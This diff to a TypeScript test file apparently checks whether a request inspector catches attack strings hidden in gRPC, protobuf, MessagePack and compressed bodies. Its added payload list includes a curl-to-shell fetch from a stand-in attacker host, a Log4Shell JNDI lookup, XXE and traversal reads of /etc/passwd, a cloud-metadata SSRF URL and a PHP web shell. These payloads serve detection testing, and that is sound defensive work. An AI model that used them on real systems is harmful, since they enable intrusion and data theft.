@@ -16,7 +16,32 @@ const attacks = [
   ['<img src=x onerror=alert(7)>', 'cross-site-scripting'],
   ['../../../../etc/passwd', 'path-traversal'],
   ['; cat /etc/passwd', 'command-injection'],
+  ['$(curl http://evil.example/a | sh)', 'command-injection'],
+  ["{{''.__class__.__mro__}}", 'template-injection'],
+  ['${jndi:ldap://evil.example/a}', 'known-exploit'],
+  ['<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>', 'xml-external-entity'],
+  ['http://169.254.169.254/latest/meta-data/', 'server-side-request-forgery'],
+  ['php://filter/convert.base64-encode/resource=index.php', 'file-inclusion'],
+  ["';return true;var a='", 'nosql-injection'],
+  ['*)(uid=*))(|(uid=*', 'ldap-injection'],
+  ['O:8:"Gadget_A":1:{s:1:"a";s:2:"id";}', 'deserialization'],
+  ['<?php system($_GET[0]); ?>', 'command-injection'],
 ] as const
+
+/** A message of protocol buffers whose field 1 is a message whose field 2 is a text. */
+function protobuf(text: string): Buffer {
+  const field = (number: number, value: Buffer): Buffer =>
+    Buffer.concat([Buffer.from([(number << 3) | 2, value.length]), value])
+  return field(1, field(2, Buffer.from(text)))
+}
+
+/** Behind a flag and its length, as gRPC sends it. */
+function grpcFrame(flag: 0 | 1, message: Buffer): Buffer {
+  const prefix = Buffer.alloc(5)
+  prefix[0] = flag
+  prefix.writeUInt32BE(message.length, 1)
+  return Buffer.concat([prefix, message])
+}
 
 const percent = (text: string): string =>
   [...Buffer.from(text)].map((byte) => `%${byte.toString(16).padStart(2, '0')}`).join('')
@@ -63,6 +88,26 @@ const inBody: Record<string, (text: string) => { type: string; body: string | Bu
     body: `--xx\r\nContent-Disposition: form-data; name="note"\r\n\r\n${text}\r\n--xx--\r\n`,
   }),
   text: (text) => ({ type: 'text/plain', body: text }),
+  gRPC: (text) => ({ type: 'application/grpc', body: grpcFrame(0, protobuf(text)) }),
+  'gRPC, compressed, behind another message': (text) => ({
+    type: 'application/grpc+proto',
+    body: Buffer.concat([
+      grpcFrame(0, protobuf('nothing of the kind')),
+      grpcFrame(1, gzipSync(protobuf(text))),
+      grpcFrame(1, gzipSync(protobuf('nor here'))),
+    ]),
+    headers: 'grpc-encoding: gzip\r\n',
+  }),
+  'gRPC, deflated': (text) => ({
+    type: 'application/grpc',
+    body: grpcFrame(1, deflateSync(protobuf(text))),
+    headers: 'grpc-encoding: deflate\r\n',
+  }),
+  'protocol buffers': (text) => ({ type: 'application/x-protobuf', body: protobuf(text) }),
+  MessagePack: (text) => ({
+    type: 'application/msgpack',
+    body: Buffer.concat([Buffer.from([0x81, 0xa1, 0x61, 0xd9, Buffer.byteLength(text)]), Buffer.from(text)]),
+  }),
   gzip: (text) => ({
     type: 'application/json',
     body: gzipSync(JSON.stringify({ note: text })),
